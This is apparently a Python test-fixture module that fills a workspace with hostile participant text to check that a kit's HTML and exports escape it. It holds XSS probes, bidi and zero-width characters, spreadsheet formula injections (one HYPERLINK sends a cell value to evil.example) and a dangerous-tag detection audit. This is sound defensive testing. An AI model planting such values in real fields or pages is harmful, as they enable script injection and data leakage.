"""Hostile participant text, and a workspace full of it, for the trust tests.

Shared by ``test_hostile.py``, ``test_privacy.py`` and the long fuzz run. Every string fits the
model's limits (titles 200 characters, free text 2,000, goals 300, the answer 20,000), so a real
participant could type all of it.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from workshop.model import Workspace

SCRIPT = '<script>alert(1)</script> & "q"'
#: ``SCRIPT`` as it must appear in HTML the kit makes (escaped, quotes included).
SCRIPT_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;q&quot;"
IMG = "<img src=x onerror=alert(1)>"
QUOTES = "\"double\" 'single' & ampersand &amp; &lt;not a tag&gt;"
MD_LINK = "[click me](javascript:alert(1)) *bold* _under_ `code` | pipe #"
ARABIC = "مديرة المناوبة الليلية"
HEBREW = "מנהלת משמרת לילה"
COMBINING = "Zoe\u0308 Cafe\u0301 man\u0303ana"
EMOJI = "👩🏽‍💻 team lead 🚀 👨‍👩‍👧"
ZERO_WIDTH = "zero\u200dwidth\u200bjoin\u200cer\u2060"
BIDI = "\u202eevil\u202c \u2066isolated\u2069"
DOLLARS = "Saved $5k, then $10k \\frac{1}{2} $x^2$ a_b ^c"  # mathtext in chart labels
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A9)",
            "=1+1")

#: The strings a test looks for, once escaped, in every HTML the kit makes.
HOSTILE = (SCRIPT, IMG, QUOTES, MD_LINK, ARABIC, HEBREW, COMBINING, EMOJI, ZERO_WIDTH, BIDI,
           DOLLARS)

#: A role id is text too: a file may hold any id, so widgets must escape it where they show it.
HOSTILE_ID = 'x"><img src=x onerror=alert(2)>'


def _long(seed: str, length: int) -> str:
    """``seed`` repeated up to ``length`` characters, cut on a space so it stays valid text."""
    text = (seed + " ") * (length // (len(seed) + 1) + 1)
    return text[:length].strip()


def hostile_dict() -> dict:
    """A workspace file's object with hostile text in every free-text field."""
    def role(rid, title, org, *, rated=True, summary=None, start="2019-11", end=None):
        data = {
            "id": rid,
            "title": title,
            "organization": org,
            "start": start,
            "end": end,
            "summary": summary if summary is not None else f"{SCRIPT} {IMG} {ARABIC}",
            "skills": [
                {"name": SCRIPT, "before": "novice", "after": "proficient",
                 "used_later": f"{IMG} planned rosters {EMOJI}"},
                {"name": "scheduling", "before": "advanced beginner", "after": "expert",
                 "used_later": QUOTES},
                {"name": f"{HEBREW} {COMBINING}", "before": "competent", "after": "competent",
                 "used_later": ""},
            ],
            "results": [
                {"statement": f"I helped the company to cut overtime {SCRIPT}",
                 "metric": IMG, "value": 18, "unit": "%<b>", "scope": "department"},
                {"statement": f"I helped the company to {ARABIC} {ZERO_WIDTH}",
                 "metric": "", "value": None, "unit": "", "scope": "customers"},
            ],
            "ratings": ({"skill_growth": 4, "company_results": 4, "relevance": 3}
                        if rated else {}),
            "enjoyment": 2,
        }
        return data

    roles = [
        role("r1", SCRIPT, IMG),
        role("r2", IMG, QUOTES, start="2016", end="2019-10"),
        role("r3", ARABIC, HEBREW, start="2014-01", end="2016"),
        role("r4", COMBINING, EMOJI, start="2012-06", end="2013-12"),
        role("r5", f"{ZERO_WIDTH} {BIDI} {DOLLARS}", MD_LINK, start="2011", end="2012"),
        role(HOSTILE_ID, _long(SCRIPT, 200), _long(IMG, 200), start="2010", end="2011",
             summary=_long(f"{SCRIPT} {ARABIC} {EMOJI}", 2000)),
        role("r7", f"{QUOTES} unrated", SCRIPT, rated=False, start="2009", end="2010"),
    ]
    # Different ratings so there is a clear order, a runner-up and an unranked role.
    for i, r in enumerate(roles[:-1]):
        r["ratings"] = {"skill_growth": 5 - i % 5, "company_results": 4 - i % 4,
                        "relevance": 1 + i % 5}
        r["enjoyment"] = 1 + (i * 2) % 5
    answer = _long(f"I grew my scheduling skills from novice to proficient. I helped the company "
                   f"to cut overtime by 18%. {SCRIPT} {IMG} {ARABIC} {HEBREW} {COMBINING} "
                   f"{EMOJI} {ZERO_WIDTH} {BIDI} {MD_LINK} {QUOTES}", 10_000)
    return {
        "schema_version": 1,
        "participant": {"name": SCRIPT},
        "target_role": {"title": IMG, "goals": [SCRIPT, IMG, f"{ARABIC} {EMOJI}", MD_LINK,
                                                 _long(QUOTES, 300)]},
        "roles": roles,
        "answer": {"role_id": "r1", "text": answer},
    }


def hostile_workspace() -> Workspace:
    """The hostile workspace, validated by the model like a loaded file."""
    return Workspace.from_dict(hostile_dict())


def formula_workspace() -> Workspace:
    """Roles whose titles, organisations and ids start like spreadsheet formulas."""
    roles = []
    for i, text in enumerate(FORMULAS):
        roles.append({"id": f"{text[:20]}{i}", "title": text, "organization": FORMULAS[-1 - i],
                      "start": "2018", "end": "2019",
                      "ratings": {"skill_growth": 1 + i % 5, "company_results": 2,
                                  "relevance": 3}})
    return Workspace.from_dict({"schema_version": 1, "roles": roles})


def participant_strings(ws: Workspace) -> set[str]:
    """Every piece of text the participant typed into ``ws`` (ids included)."""
    out = set()

    def add(value):
        if isinstance(value, str) and value.strip():
            out.add(value)
        elif isinstance(value, dict):
            for v in value.values():
                add(v)
        elif isinstance(value, list):
            for v in value:
                add(v)

    add(ws.participant)
    add(ws.target_role.title)
    add(ws.target_role.goals)
    add(ws.answer.text)
    for r in ws.roles:
        add([r.id, r.title, r.organization, r.summary, r.start, r.end])
        for s in r.skills:
            add([s.name, s.used_later])
        for x in r.results:
            add([x.statement, x.metric, x.unit])
    return out


# --- reading HTML as a browser would --------------------------------------------------------

_EVENT_ATTR = re.compile(r"^on[a-z]+$", re.I)
_DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "base", "form", "meta",
                   "link", "frame", "frameset", "applet"}


class _Audit(HTMLParser):
    """Collects the tags, attributes and text a browser would see in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.problems: list[str] = []
        self.text: list[str] = []
        self.attr_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if _EVENT_ATTR.match(name):
                self.problems.append(f"event handler attribute {name}= on <{tag}>")
            if value and name in ("href", "src", "action", "formaction") and \
                    value.strip().lower().startswith(("javascript:", "vbscript:")):
                self.problems.append(f"{name}={value[:40]!r} on <{tag}>")
            if value:
                self.attr_text.append(value)
        if tag == "img" and not (dict(attrs).get("src") or "").startswith("data:image/"):
            self.problems.append("<img> not showing an embedded chart")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def audit_html(fragment: str, *, allowed_tags: set[str] = frozenset({"style"})) -> _Audit:
    """Parse ``fragment`` and return what a browser would see; ``.problems`` lists injections.

    A tag from ``_DANGEROUS_TAGS`` counts as a problem unless in ``allowed_tags`` (the kit's
    own pages use ``<style>``, never ``<script>``); an ``<img>`` is allowed only for an embedded
    chart (a ``data:image/`` source), never with an event handler.
    """
    audit = _Audit()
    audit.feed(fragment)
    audit.close()
    for tag in audit.tags:
        if tag in _DANGEROUS_TAGS and tag not in allowed_tags:
            audit.problems.append(f"<{tag}> element")
    if re.search(r"<\s*script", fragment, re.I):
        audit.problems.append("raw '<script' in the markup")
    return audit


def shown_text(fragment: str) -> str:
    """The text of an HTML fragment as a reader sees it (tags gone, entities decoded)."""
    audit = audit_html(fragment)
    return "".join(audit.text) + "\n" + "\n".join(audit.attr_text)


def unescaped(fragment: str) -> str:
    """``html.unescape`` of the whole fragment: participant text must come back intact."""
    return html.unescape(fragment)
